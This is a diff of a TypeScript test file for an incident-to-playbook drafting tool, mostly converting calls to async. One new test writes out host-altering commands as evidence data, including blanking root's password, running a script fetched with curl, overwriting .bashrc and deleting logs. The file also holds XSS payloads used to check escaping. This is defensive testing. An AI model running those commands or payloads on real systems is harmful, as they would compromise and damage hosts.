@@ -3,7 +3,7 @@ import os from "node:os";
 import path from "node:path";
 import { afterEach, describe, expect, it } from "vitest";
 import { DraftSaveError, savePlaybookDraft } from "@/lib/import/save-draft";
-import { parsePlaybook } from "@/lib/playbooks/parse-playbook";
+import { checkPlaybook } from "@/lib/playbooks/check-playbook";
 import { incidentToPlaybookDraft } from "./draft-playbook";
 import { importIncidentMarkdown } from "./markdown/import-markdown";
 import { parseIncidentInput } from "./schema";
@@ -13,10 +13,10 @@ const seed = (name: string) => importIncidentMarkdown(readFileSync(path.join("co
 describe("incident → playbook draft", () => {
   it.each(["ray-actors-pending-creation-podman.md", "arc-job-containers-nixery.md"])(
     "drafts a valid playbook from %s",
-    (name) => {
+    async (name) => {
       const incident = seed(name);
-      const { draft, mdx } = incidentToPlaybookDraft({ ...incident, id: "inc1" });
-      const { playbook, errors } = parsePlaybook(`content/${draft.slug}.mdx`, mdx);
+      const { draft, mdx } = await incidentToPlaybookDraft({ ...incident, id: "inc1" });
+      const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
       expect(errors).toEqual([]);
       expect(playbook!.symptoms).toEqual(incident.symptoms.map((s) => s.replace(/sebkuepers/g, "$USER")));
       // One read and one change step per cause, plus the closing check.
@@ -34,9 +34,9 @@ describe("incident → playbook draft", () => {
     },
   );
 
-  it("turns a recorded fix into the fix step and generalises the user's name", () => {
-    const { mdx } = incidentToPlaybookDraft(seed("ray-actors-pending-creation-podman.md"));
-    const steps = parsePlaybook("content/x.mdx", mdx).playbook!.steps;
+  it("turns a recorded fix into the fix step and generalises the user's name", async () => {
+    const { mdx } = await incidentToPlaybookDraft(seed("ray-actors-pending-creation-podman.md"));
+    const steps = (await checkPlaybook("content/x.mdx", mdx)).playbook!.steps;
     const userns = steps.find((s) => s.id === "fix-podman-user-namespace-not-configured")!;
     expect(userns.code).toContain("sudo bash -c 'echo \"$USER:100000:65536\" >> /etc/subuid'");
     expect(mdx).not.toContain("sebkuepers");
@@ -46,7 +46,43 @@ describe("incident → playbook draft", () => {
     );
   });
 
-  it("keeps hostile text inert in the draft", () => {
+  it("never drafts a recorded command that changes the host as the read-only check", async () => {
+    const evidence = [
+      `awk 'BEGIN{system("touch /tmp/x")}'`,
+      "sed --in-place 's/^root:x:/root::/' /etc/passwd",
+      ". <(curl -s http://x)",
+      "curl -s http://x --output /root/.bashrc",
+      "mount -o remount,ro /",
+      "ip link set dev eth0 down",
+      "hostname x",
+      "date -s 2024-01-01",
+      "journalctl --vacuum-time=1s",
+      "find /var/log -name '*.gz' -exec rm {} \\;",
+    ];
+    const incident = parseIncidentInput({
+      title: "Evidence that writes",
+      severity: "SEV3",
+      rootCauses: evidence.map((command, i) => ({
+        title: `Cause ${i + 1}`,
+        evidence: `\`\`\`bash\n${command}\n\`\`\``,
+        fix: "```bash\nreboot\n```",
+      })),
+    });
+    const { draft, mdx } = await incidentToPlaybookDraft(incident);
+    const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
+    expect(errors).toEqual([]);
+    const checks = playbook!.steps.filter((s) => s.id.startsWith("check-"));
+    expect(checks).toHaveLength(evidence.length);
+    for (const check of checks) {
+      expect(check.risk).toBe("read");
+      expect(check.code).toMatch(/^# Draft: replace with a command/);
+    }
+    expect(playbook!.steps.filter((s) => s.id.startsWith("fix-")).map((s) => s.risk)).toEqual(
+      evidence.map(() => "danger"),
+    );
+  });
+
+  it("keeps hostile text inert in the draft", async () => {
     const incident = parseIncidentInput({
       title: "XSS <img src=x onerror=alert(1)>",
       severity: "SEV3",
@@ -57,8 +93,8 @@ describe("incident → playbook draft", () => {
       ],
       learnings: [{ text: "<iframe src=javascript:alert(1)>" }],
     });
-    const { draft, mdx } = incidentToPlaybookDraft(incident);
-    const { playbook, errors } = parsePlaybook(`content/${draft.slug}.mdx`, mdx);
+    const { draft, mdx } = await incidentToPlaybookDraft(incident);
+    const { playbook, errors } = await checkPlaybook(`content/${draft.slug}.mdx`, mdx);
     expect(errors).toEqual([]);
     // Outside code blocks, every `<` of the hostile text is escaped, so MDX reads it as text.
     const prose = mdx.slice(mdx.indexOf("\n---\n") + 5).replace(/```[\s\S]*?```/g, "");
@@ -79,7 +115,7 @@ describe("saving a draft into content/", () => {
 
   it("writes a checked draft once, then refuses to overwrite, and refuses a broken one", async () => {
     dir = mkdtempSync(path.join(os.tmpdir(), "casebook-drafts-"));
-    const { draft, mdx } = incidentToPlaybookDraft(seed("ray-actors-pending-creation-podman.md"));
+    const { draft, mdx } = await incidentToPlaybookDraft(seed("ray-actors-pending-creation-podman.md"));
     await savePlaybookDraft(mdx, draft.slug, dir);
     expect(readFileSync(path.join(dir, `${draft.slug}.mdx`), "utf8")).toBe(mdx);
     await expect(savePlaybookDraft(mdx, draft.slug, dir)).rejects.toMatchObject({ status: 409 });
@@ -96,7 +132,7 @@ describe("saving a draft into content/", () => {
     dir = mkdtempSync(path.join(os.tmpdir(), "casebook-drafts-"));
     writeFileSync(path.join(dir, "keep.txt"), "");
     chmodSync(dir, 0o555);
-    const { draft, mdx } = incidentToPlaybookDraft(seed("arc-job-containers-nixery.md"));
+    const { draft, mdx } = await incidentToPlaybookDraft(seed("arc-job-containers-nixery.md"));
     await expect(savePlaybookDraft(mdx, draft.slug, dir)).rejects.toMatchObject({ status: 403 });
   });
 });
